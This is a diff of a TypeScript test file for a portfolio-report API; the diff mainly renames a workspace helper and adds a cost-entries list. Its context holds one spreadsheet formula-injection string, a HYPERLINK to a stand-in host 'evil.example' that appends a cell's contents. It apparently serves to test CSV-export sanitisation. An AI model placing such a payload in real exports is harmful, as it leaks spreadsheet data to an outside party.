@@ -2,14 +2,14 @@ import { exports } from 'cloudflare:workers';
 import { parse } from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { type PortfolioResponse, rollUpPortfolio, type WorkspaceRecords } from '../../shared';
-import { addMember, call, createWorkspace } from './api';
+import { addMember, call, createEmptyWorkspace } from './api';
 import { pullToEnd, riskCreate, TestClient } from './sync-client';
 
 const hostileTitle = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
 
 /** Two live projects (one with a slipping mandatory milestone and risks), one closed, one deleted. */
 async function seedPortfolio() {
-  const owner = await createWorkspace();
+  const owner = await createEmptyWorkspace();
   const client = new TestClient(owner);
   const crm = crypto.randomUUID();
   const erp = crypto.randomUUID();
@@ -62,6 +62,7 @@ async function pullRecords(client: TestClient): Promise<WorkspaceRecords> {
     gateReviews: list('gateReview'),
     persons: list('person'),
     allocations: list('allocation'),
+    costEntries: list('costEntry'),
   };
 }
 
@@ -113,7 +114,7 @@ describe('GET /v1/workspaces/:ws/reports/portfolio', () => {
   });
 
   it('refuses an unknown format with 400 invalid_query', async () => {
-    const owner = await createWorkspace();
+    const owner = await createEmptyWorkspace();
     const bad = await call(`/v1/workspaces/${owner.workspace.id}/reports/portfolio?format=xlsx`, {
       token: owner.token,
     });
@@ -122,7 +123,7 @@ describe('GET /v1/workspaces/:ws/reports/portfolio', () => {
   });
 
   it('answers an empty workspace with no projects and zero totals', async () => {
-    const owner = await createWorkspace();
+    const owner = await createEmptyWorkspace();
     const report = await call<PortfolioResponse>(`/v1/workspaces/${owner.workspace.id}/reports/portfolio`, {
       token: owner.token,
     });
